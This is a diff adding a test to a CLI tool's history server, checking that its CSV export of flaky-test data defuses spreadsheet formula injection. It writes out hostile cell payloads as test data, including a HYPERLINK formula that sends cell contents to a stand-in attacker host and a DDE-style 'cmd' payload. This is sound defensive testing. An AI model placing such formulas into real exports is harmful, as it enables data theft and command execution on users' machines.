@@ -1,4 +1,6 @@
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
 import { runCli } from './support/cli.js';
 import { startHistoryServer } from './support/history-server.js';
@@ -77,5 +79,54 @@ describe('seedfork serve: the ingest API and its tokens', () => {
     expect(down.code).toBe(2);
     expect(down.out).toMatch(/cannot reach http:\/\/127\.0\.0\.1:\d+: .*gave up after 4 attempts/);
     expect(Date.now() - started).toBeGreaterThan(3000);
+  });
+
+  test('the CSV export neutralises cells a spreadsheet would run as formulas, and keeps plain ones as they are', async () => {
+    const dir = makeProject('history-csv', { '.keep': '' });
+    const service = '@ops';
+    const token = (await runCli(dir, ['token', 'create', '--service', service])).out.split('\n')[0]!.trim();
+    // each leading character OWASP names, in a test name, a file and the service; and a control
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&amp;A1,"open")',
+      '+1+cmd|x',
+      '-2+3',
+      '@SUM(1,2)',
+      '&#9;=1+1',
+      '&#13;=1+1',
+    ];
+    const cases = hostile.map((name, i) => `<testcase classname="=file${i}.js" name='${name}' time="0.01"/>`);
+    cases.push('<testcase classname="plain.js" name="plain - with = and @ inside" time="0.01"/>');
+    const report = join(dir, 'hostile.xml');
+    writeFileSync(
+      report,
+      `<?xml version="1.0"?><testsuites><testsuite name="">${cases.join('')}</testsuite></testsuites>\n`,
+    );
+    const { server, url } = await startHistoryServer(dir);
+    try {
+      const job = ['ingest', report, '--service', service, '--build', '1', '--server', url];
+      const stored = await runCli(dir, job, { SEEDFORK_TOKEN: token });
+      expect(stored.code, stored.out).toBe(0);
+      const csv = await (await fetch(`${url}/api/v1/flaky.csv?since=3650d`)).text();
+      const rows = parseCsv(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
+      expect(rows).toHaveLength(7);
+      for (const row of rows)
+        for (const [column, cell] of Object.entries(row))
+          expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r\0]/);
+      const names = new Map(rows.map((r) => [r.name!.replace(/^'/, ''), r]));
+      // the attack is kept as text, behind the quote spreadsheets read as "text"
+      expect(names.get('=HYPERLINK("http://evil.example/?"&A1,"open")')?.name).toBe(
+        `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
+      );
+      expect(names.get('\t=1+1')?.name).toBe("'\t=1+1");
+      expect(names.get('\r=1+1')?.name).toBe("'\r=1+1");
+      expect(rows.every((r) => r.service === "'@ops")).toBe(true);
+      expect(names.get('-2+3')?.file).toMatch(/^'=file\d\.js$/);
+      // the control: a plain cell, and numbers, unchanged
+      const plain = names.get('plain - with = and @ inside')!;
+      expect(plain).toMatchObject({ name: 'plain - with = and @ inside', file: 'plain.js', runs: '1' });
+    } finally {
+      server.child.kill('SIGTERM');
+      await server.exited;
+    }
   });
 });
